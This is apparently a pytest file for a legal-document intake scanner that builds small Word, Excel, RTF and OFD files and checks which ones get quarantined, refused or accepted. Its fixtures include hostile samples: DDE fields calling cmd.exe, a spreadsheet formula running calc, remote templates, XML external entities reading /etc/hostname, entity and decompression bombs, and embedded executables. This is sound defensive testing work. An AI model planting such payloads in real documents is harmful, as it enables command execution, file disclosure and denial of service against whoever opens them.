"""Word, Excel, RTF and OFD files with more in them than words."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from tianping.papers.intake import Verdict, receive

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TIES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    "<Types><Override PartName='/word/document.xml' ContentType='application/vnd.openxmlformats-"
    "officedocument.wordprocessingml.document.main+xml'/></Types>"
)
CFB_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def zipped(members: dict[str, bytes | str]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return stream.getvalue()


def tie(kind: str, target: str, mode: str = "") -> str:
    outside = f" TargetMode='{mode}'" if mode else ""
    return f"<Relationships><Relationship Id='r1' Type='{TIES}/{kind}' Target='{target}'{outside}/></Relationships>"


def docx(
    body: str = "<w:p><w:r><w:t>民事起诉状</w:t></w:r></w:p>", head: str = "", **parts: bytes | str
) -> bytes:
    """A minimal document; further parts are named with __ for / and _dot_ for a dot."""
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": tie("officeDocument", "word/document.xml"),
        "word/document.xml": f"<?xml version='1.0'?>{head}<w:document xmlns:w='{W}' xmlns:o='urn:o'>"
        f"<w:body>{body}</w:body></w:document>",
    }
    members |= {name.replace("__", "/").replace("_dot_", "."): part for name, part in parts.items()}
    return zipped(members)


def field(*runs: str) -> str:
    return (
        "<w:p>"
        + "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
        + "<w:r><w:t>x</w:t></w:r></w:p>"
    )


RELS = "word___rels__document_dot_xml_dot_rels"
LAUGHS = "<!DOCTYPE d [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'><!ENTITY c '&b;&b;&b;'><!ENTITY d '&c;&c;'>]>"
HELD = {
    "remote template": (
        docx(**{RELS: tie("attachedTemplate", "https://192.0.2.1/t.dotm", "External")}),
        "external_reference",
    ),
    "template on a share": (
        docx(**{RELS: tie("attachedTemplate", "file://192.0.2.1/t.dotm", "External")}),
        "external_reference",
    ),
    "remote picture": (
        docx(**{RELS: tie("image", "http://192.0.2.1/p.png", "External")}),
        "external_reference",
    ),
    "remote object": (docx(**{RELS: tie("oleObject", "http://192.0.2.1/x", "External")}), "ole_object"),
    "link to a share": (
        docx(**{RELS: tie("hyperlink", "file://192.0.2.1/x", "External")}),
        "external_reference",
    ),
    "mail merge": (
        docx(**{RELS: tie("mailMergeSource", "file:///C:/x.mdb", "External")}),
        "external_reference",
    ),
    "web extension": (docx(**{RELS: tie("webextension", "we.xml")}), "external_reference"),
    "macros": (docx(word__vbaProject_dot_bin=b"x"), "macro"),
    "macros under another name": (docx(**{RELS: tie("vbaProject", "picture.bin")}), "macro"),
    "object": (docx(word__embeddings__oleObject1_dot_bin=CFB_HEAD + b"\0" * 600), "ole_object"),
    "object in the words": (
        docx("<w:p><w:r><w:object><o:OLEObject Type='Link'/></w:object></w:r></w:p>"),
        "ole_object",
    ),
    "control": (docx(**{RELS: tie("control", "activeX/a.xml")}), "ole_object"),
    "another document inside": (
        docx("<w:altChunk/><w:p/>", **{RELS: tie("aFChunk", "a.html")}),
        "embedded_document",
    ),
    "program inside": (docx(word__embeddings__a_dot_dat=b"MZ" + b"\0" * 90), "embedded_document"),
    "field that calls a program": (docx(field("DDEAUTO c:\\\\windows\\\\cmd.exe")), "dde_field"),
    "the same in pieces": (docx(field("DD", "EAU", "TO cmd")), "dde_field"),
    "the same as a simple field": (docx("<w:fldSimple w:instr='DDE cmd'/>"), "dde_field"),
    "field that fetches": (docx(field('INCLUDEPICTURE "http://192.0.2.1/a.png"')), "external_reference"),
    "field that fetches from a share": (
        docx(field('INCLUDEPICTURE "\\\\\\\\192.0.2.1\\\\a.png"')),
        "external_reference",
    ),
    "file of a server": (
        docx(**{RELS: tie("image", "file:///etc/hostname", "External")}),
        "external_reference",
    ),
    "rtf picture on a share": (
        rb'{\rtf1 x{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\192.0.2.1\\\\a"}}}',
        "external_reference",
    ),
    "external entity": (
        docx(head="<!DOCTYPE d [<!ENTITY a SYSTEM 'file:///etc/hostname'>]>"),
        "xml_external_entity",
    ),
    "external document type": (docx(head="<!DOCTYPE d SYSTEM 'http://192.0.2.1/d'>"), "xml_external_entity"),
    "external entity in a side part": (
        docx(word__styles_dot_xml="<!DOCTYPE d [<!ENTITY a SYSTEM 'x'>]><d/>"),
        "xml_external_entity",
    ),
    "external entity in UTF-16": (
        docx(word__styles_dot_xml="<!DOCTYPE d [<!ENTITY a SYSTEM 'x'>]><d/>".encode("utf-16")),
        "xml_external_entity",
    ),
    "rtf object": (rb"{\rtf1{\object\objemb{\*\objdata 01050000}}}", "rtf_object"),
    "rtf with a broken head": (rb"{\rtxa{\*\objdata 01}}", "rtf_object"),
    "rtf and archive": (rb"{\rtf1 x}" + docx(), "polyglot"),
    "rtf field": (rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}", "dde_field"),
    "rtf template": (rb"{\rtf1{\*\template http://192.0.2.1/x}}", "external_reference"),
}
REFUSED = {
    "laughs": (docx(head=LAUGHS), "xml_entity_bomb"),
    "expands": (docx(word__media__a_dot_bin=b"\0" * (40 << 20)), "decompression_bomb"),
    "no document": (zipped({"[Content_Types].xml": TYPES}), "corrupt"),
    "document is no XML": (docx(body="<w:p>"), "corrupt"),
    "cut off": (docx()[:-60], "corrupt"),
    "bytes changed": (docx()[:300] + b"\xff" * 40 + docx()[340:], "corrupt"),
    "deep": (docx("<w:p>" * 3000 + "</w:p>" * 3000), "too_complex"),
    "slides": (
        zipped(
            {
                "[Content_Types].xml": "<Types/>",
                "_rels/.rels": tie("officeDocument", "ppt/presentation.xml"),
                "ppt/presentation.xml": "<p/>",
            }
        ),
        "type_not_allowed",
    ),
    "old head, empty shell": (CFB_HEAD + b"\0" * 2000, "corrupt"),
    "rtf without its end": (rb"{\rtf1 text", "corrupt"),
}
FINE = {
    "plain": docx(),
    "link to the web": docx(**{RELS: tie("hyperlink", "https://192.0.2.1/", "External")}),
    "template on the writer's disk": docx(
        **{RELS: tie("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", "External")}
    ),
    "picture pasted from a chat": docx(
        field('INCLUDEPICTURE "C:\\\\Users\\\\(a)\\\\wps1.jpg" \\* MERGEFORMATINET')
    ),
    "picture linked on the writer's disk": docx(
        **{RELS: tie("image", "file:///C:\\Users\\a\\wps1.jpg", "External")}
    ),
    "rtf picture on the writer's disk": (
        rb'{\rtf1 x{\field{\*\fldinst INCLUDEPICTURE "C:\\\\\\\\Users\\\\\\\\a.jpg"}}}'
    ),
    "page number field": docx(field("PAGE \\* MERGEFORMAT", 'HYPERLINK "https://192.0.2.1"')),
}


@pytest.mark.parametrize("name", HELD)
def test_active_office_files_are_set_apart(name: str) -> None:
    data, code = HELD[name]
    receipt = receive("起诉状.rtf" if data[:1] == b"{" else "起诉状.docx", data)
    assert (receipt.verdict, code in receipt.codes) == (Verdict.QUARANTINE, True), receipt.codes


@pytest.mark.parametrize("name", REFUSED)
def test_broken_office_files_are_refused(name: str) -> None:
    data, code = REFUSED[name]
    receipt = receive({b"{": "a.rtf", b"\xd0": "a.xls"}.get(data[:1], "a.docx"), data)
    assert (receipt.verdict, receipt.reason_code) == (Verdict.REFUSE, code)


@pytest.mark.parametrize("name", FINE)
def test_ordinary_office_files_pass_in_silence(name: str) -> None:
    data = FINE[name]
    assert receive("起诉状.rtf" if data[:1] == b"{" else "起诉状.docx", data).codes == ()


def book(cells: str = "<c><v>20000</v></c>", **parts: str) -> bytes:
    """A minimal workbook."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": f"<Types><Override PartName='/xl/workbook.xml' ContentType='{kind}'/></Types>",
        "_rels/.rels": tie("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": "<workbook/>",
        "xl/worksheets/sheet1.xml": f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>",
    }
    members |= {name.replace("__", "/").replace("_dot_", "."): part for name, part in parts.items()}
    return zipped(members)


LINKED = "xl__externalLinks___rels__externalLink1_dot_xml_dot_rels"


@pytest.mark.parametrize(
    ("data", "codes"),
    [
        (book(), ()),
        (book('<c><f>HYPERLINK("http://192.0.2.1|x!")</f><v>1</v></c>'), ()),
        (book(**{LINKED: tie("externalLinkPath", "总表.xlsx", "External")}), ()),
        (book(**{LINKED: tie("externalLinkPath", "file:///D:\\账\\总表.xlsx", "External")}), ()),
        (
            book(**{LINKED: tie("externalLinkPath", "http://192.0.2.1/a.xlsx", "External")}),
            ("external_reference",),
        ),
        (book('<c><f>_xlfn.WEBSERVICE("http://192.0.2.1/")</f><v>1</v></c>'), ("external_reference",)),
        (book("<c><f>cmd|'/c calc'!A0</f><v>1</v></c>"), ("dde_field",)),
        (
            book(xl__connections_dot_xml="<connections><webPr url='http://192.0.2.1/'/></connections>"),
            ("external_reference",),
        ),
        (
            book(xl__connections_dot_xml="<connections><dbPr connection='Data Source=a'/></connections>"),
            ("external_reference",),
        ),
        (
            book(
                xl__connections_dot_xml="<connections><dbPr connection='Data Source=$Workbook$'/></connections>"
            ),
            (),
        ),
        (book("<c/>"), ("blank_document",)),
    ],
)
def test_workbooks_are_judged_by_what_they_ask_for(data: bytes, codes: tuple[str, ...]) -> None:
    assert receive("流水.xlsx", data).codes == codes


@pytest.mark.parametrize(
    ("name", "data"), [("起诉状.docx", docx("<w:p/>")), ("起诉状.rtf", rb"{\rtf1\ansi\par}")]
)
def test_an_empty_document_is_taken_with_a_remark(name: str, data: bytes) -> None:
    assert receive(name, data).codes == ("blank_document",)


OFD = "http://www.ofdspec.org/2016"


def ofd(page: str, *, box: str = "0 0 210 297", **parts: bytes | str) -> bytes:
    spaces = f"xmlns:ofd='{OFD}'"
    area = f"<ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>{box}</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData>"
    members: dict[str, bytes | str] = {
        "OFD.xml": f"<ofd:OFD {spaces}><ofd:DocBody><ofd:DocRoot>D/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
        "D/Document.xml": f"<ofd:Document {spaces}>{area}<ofd:Pages><ofd:Page ID='1' BaseLoc='P/Content.xml'/>"
        "</ofd:Pages></ofd:Document>",
        "D/P/Content.xml": f"<ofd:Page {spaces}><ofd:Content><ofd:Layer>{page}</ofd:Layer></ofd:Content></ofd:Page>",
    }
    members |= {name.replace("__", "/").replace("_dot_", "."): part for name, part in parts.items()}
    return zipped(members)


TEXT = "<ofd:TextObject Boundary='10 10 50 5' Size='4'><ofd:TextCode X='0' Y='4'>发票</ofd:TextCode></ofd:TextObject>"


@pytest.mark.parametrize(
    ("data", "codes"),
    [
        (ofd(TEXT), ()),
        (ofd(TEXT, D__Attachs__invoice_dot_xml="<x/>"), ()),
        (ofd(""), ("blank_document",)),
        (ofd(TEXT, D__Attachs__a_dot_exe=b"MZ" + b"\0" * 90), ("embedded_document",)),
        (
            ofd(TEXT, D__Res_dot_xml="<Res><MediaFile>http://192.0.2.1/a.png</MediaFile></Res>"),
            ("external_reference",),
        ),
        (ofd(TEXT, D__Res_dot_xml="<!DOCTYPE d [<!ENTITY a SYSTEM 'x'>]><d/>"), ("xml_external_entity",)),
        (ofd(TEXT, box="0 0 90000 90000"), ("page_too_large",)),
        (ofd(TEXT, OFD_dot_xml="<OFD><DocBody><DocRoot>D/None.xml</DocRoot></DocBody></OFD>"), ("corrupt",)),
    ],
)
def test_ofd_is_judged_by_its_parts(data: bytes, codes: tuple[str, ...]) -> None:
    receipt = receive("发票.ofd", data)
    assert receipt.codes == codes


def test_word_for_an_encrypted_document_is_not_taken_for_damage() -> None:
    """Word wraps an encrypted DOCX into a compound file; the person must hear of the password."""
    receipt = receive("起诉状.docx", compound({"EncryptedPackage": b"x" * 5000}))
    assert receipt.reason_code == "encrypted"


def compound(streams: dict[str, bytes]) -> bytes:
    """A compound file with these streams, each of at least 4096 bytes, at the top."""
    sectors: list[bytes] = []
    fat: list[int] = []

    def put(body: bytes) -> int:
        start, count = len(sectors), -(-len(body) // 512)
        sectors.extend(body[at : at + 512].ljust(512, b"\0") for at in range(0, len(body), 512))
        fat.extend([*range(start + 1, start + count), 0xFFFFFFFE])
        return start

    entries = [("Root Entry", 5, 1, 0xFFFFFFFE, 0)]
    for number, (name, body) in enumerate(streams.items(), 1):
        entries.append((name, 2, number + 1 if number < len(streams) else 0xFFFFFFFF, put(body), len(body)))
    directory = put(b"".join(_entry(*entry, child=number == 0) for number, entry in enumerate(entries)))
    table = len(sectors)
    fat.append(0xFFFFFFFD)
    sectors.append(struct.pack("<128I", *(fat + [0xFFFFFFFF] * (128 - len(fat)))))
    head = (
        CFB_HEAD
        + b"\0" * 16
        + struct.pack(
            "<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, directory, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0
        )
    )
    return (head + struct.pack("<109I", table, *[0xFFFFFFFF] * 108)).ljust(512, b"\0") + b"".join(sectors)


def _entry(name: str, kind: int, right: int, start: int, size: int, *, child: bool) -> bytes:
    raw = name.encode("utf-16-le")
    down, right = (1, 0xFFFFFFFF) if child else (0xFFFFFFFF, right)
    return raw.ljust(64, b"\0") + struct.pack(
        "<HBBIII16xI16xIQ", len(raw) + 2, kind, 1, 0xFFFFFFFF, right, down, 0, start, size
    )
